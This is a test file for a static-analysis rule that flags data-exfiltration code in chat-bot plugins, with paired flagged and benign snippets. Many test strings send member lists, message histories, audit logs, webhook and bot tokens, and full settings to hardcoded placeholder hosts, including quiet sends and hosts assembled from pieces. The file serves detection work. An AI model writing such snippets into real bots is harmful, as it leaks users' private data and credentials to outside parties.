import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const HOST = 'const message = require("message"); const guild = require("guild"); const channel = require("channel"); const bot = require("bot"); const http = require("http"); const config = require("config"); const webhooks = require("webhooks"); const modlog = require("modlog"); const rcon = require("rcon"); const embed = require("embed"); const event = require("event"); ';
const isTold = (code: string, activation: string): boolean => findingsOf(rule, { 'code.js': HOST + code }, { dialect: 'skynet', entry_points: ['code.js'], activation: [activation] }).some(({ severity }) => severity === 'high');
const all = (expected: boolean, codes: readonly string[], activation = 'onCommand:stats'): void => {
  for (const code of codes) assert.equal(isTold(code, activation), expected, code);
};
const to = (what: string): string => `await http.post("https://stats.side.example/v1", { body: ${what} });`;

test('bad: what a chat keeps of its people goes to a server that is written', () => {
  all(true, [
    `const list = await guild.getMembers(); const rows = list.map((m) => [m.id, m.username].join()); ${to('rows.join("\\n")')}`,
    `const rows = []; for (const m of guild.members) rows.push({ id: m.id }); ${to('JSON.stringify(rows)')}`,
    `const rows = []; for (const c of await guild.getChannels()) for (const m of await guild.getChannel(c.id).fetchMessages({ limit: 100 })) rows.push(m.content); ${to('JSON.stringify(rows)')}`,
    `const pages = await Promise.all(guild.channels.map((c) => c.fetchMessages())); ${to('JSON.stringify(pages.flat())')}`,
    to('JSON.stringify(await guild.fetchBans())'), to('JSON.stringify(await guild.fetchAuditLogs())'), to('JSON.stringify(await modlog.list())'), to('JSON.stringify(guild)'),
    'await http.get("https://stats.side.example/?d=" + encodeURIComponent(guild.members.map((m) => m.id).join()));',
    'await rcon.send({ host: "game.side.example", command: guild.members.map((m) => m.id).join() });',
    'await message.replyEmbed(embed.create().setImage("https://stats.side.example/i.png?d=" + guild.members.map((m) => m.id).join()));',
    'const ws = new WebSocket("wss://stats.side.example"); ws.onopen = () => ws.send(JSON.stringify(guild.members));',
    'class Report { constructor(data) { this.data = data; this.base = "https://stats.side.example"; } send() { return http.post(this.base + "/r", { body: this.data }); } } await new Report(JSON.stringify(guild.members)).send();',
    'const u = new URL("https://stats.side.example/"); u.searchParams.set("x", JSON.stringify(guild.members)); await http.get(u.toString());',
  ]);
});

test('bad: keys of webhooks and of the bot, and all settings', () => {
  all(true, [
    to('JSON.stringify(await webhooks.list())'),
    `const hook = await guild.getChannel(id).createWebhook("News"); ${to('hook.id + hook.token')}`,
    to('JSON.stringify(config.get())'), to('JSON.stringify(await config.getAll())'), to('bot.token'), to('bot.client.token'),
    'const values = {}; for (const key of Object.keys(config.getAll())) values[key] = config.get(key); await http.get("https://stats.side.example/?x=" + JSON.stringify(values));',
  ]);
});

test('bad: somebody whose account is written gets it in a message', () => {
  all(true, [
    'const boss = await guild.fetchMember("418273645091827364"); await boss.send(JSON.stringify(await guild.searchMessages({ query: "key" })));',
    'await bot.getChannel("518273645091827364").send(guild.members.map((m) => m.id).join());',
    'if (message.author.id === "418273645091827364") await message.author.send(JSON.stringify(config.getAll()));',
  ]);
  all(true, ['await bot.getChannel("518273645091827364").send(message.content);'], 'onKeyword:e');
});

test('good: what is chosen, counted, or goes where the settings say', () => {
  all(false, [
    to('JSON.stringify({ members: guild.memberCount, bots: guild.members.filter((m) => m.bot).length })'),
    `const one = (await guild.getMembers()).find((m) => m.id === message.author.id); ${to('one.username')}`,
    'await http.post(config.get("backup"), { body: JSON.stringify(await guild.getMembers()) });',
    'const to = config.get("server") || "https://stats.side.example/v1"; await http.post(to, { body: JSON.stringify(await guild.getMembers()) });',
    'const hook = await channel.createWebhook({ name: "x", avatar: "https://img.side.example/x.png" }); await http.post(hook.url, { body: "hello" });',
    'await message.reply((await guild.getMembers()).map((m) => m.username).join());',
    'const hooks = await guild.fetchWebhooks(); await message.reply(hooks.map((h) => h.name).join()); await http.get("https://stats.side.example/");',
    'await guild.getChannel("518273645091827364").send(guild.members.map((m) => m.id).join());',
    `const names = { guild: 1 }; ${to('JSON.stringify({ guild: guild.id, members: names })')}`,
    to('JSON.stringify({ user: message.author.id, text: message.content })'),
  ]);
});

test('each message that is heard, where nothing comes of the answer', () => {
  const told = [to('message.content'), 'const sender = { push: (text) => http.post("https://stats.side.example/v1", { body: text }) }; await sender.push(message.content);'];
  all(true, told, 'onKeyword:e');
  all(true, ['const { newMessage } = event.data; await http.get("https://stats.side.example/?t=" + newMessage.content);'], 'onEvent:messageUpdate');
  all(false, told);
  all(false, told, 'onKeyword:!feedback');
  all(false, [`const res = ${to('message.content')} if (JSON.parse(res.body).score > 0.9) await message.delete();`, 'const to = config.get("log"); await http.post(to, { body: message.content });'], 'onKeyword:e');
});

test('a page of messages whose sending nobody is to hear of, and all settings behind an address that is written', () => {
  const send = to('JSON.stringify(await channel.fetchMessages({ limit: 100 }))').replace('await http', 'http').replace(/;$/, '');
  all(true, [`const sync = async () => { await ${send}; }; await message.reply("Saved."); await sync().catch(() => {});`, `try { await ${send}; } catch {}`, `await ${send}.catch(() => null);`]);
  all(false, [`await ${send}; await message.reply("Archived.");`, `try { await ${send}; } catch (e) { await message.reply(String(e)); }`, `const made = await ${send}; await message.reply(made.url);`]);
  const rest = 'method: "POST", body: JSON.stringify(await config.get())';
  all(true, [`const host = (await config.get("server")) || "play.side.example"; await http.request({ url: "https://stats.side.example/v2/" + host, ${rest} });`]);
  all(false, [`const at = (await config.get("server")) || "https://stats.side.example"; await http.request({ url: at + "/v2", ${rest} });`]);
});

test('a server whose name is put together with its address', () => {
  const page = 'const page = await guild.getChannel(event.room).fetchMessages({ limit: 100 }); ';
  all(true, [
    `${page}const host = ['in', 'trails', 'example'].join('.'); await http.request({ url: \`https://\${host}/r\`, method: 'POST', body: JSON.stringify(page) });`,
    `${page}const host = 'in.trails.example'; await http.post('https://' + host + '/r', { body: JSON.stringify(page) });`,
  ], 'onEvent:messageDelete');
  all(false, [
    `${page}const host = config.get('host'); await http.post(\`https://\${host}/r\`, { body: JSON.stringify(page) });`,
    `const host = 'in.trails.example'; await http.post(\`https://\${host}/r\`, { body: String(event.count) }); ${page}`,
  ], 'onEvent:messageDelete');
});
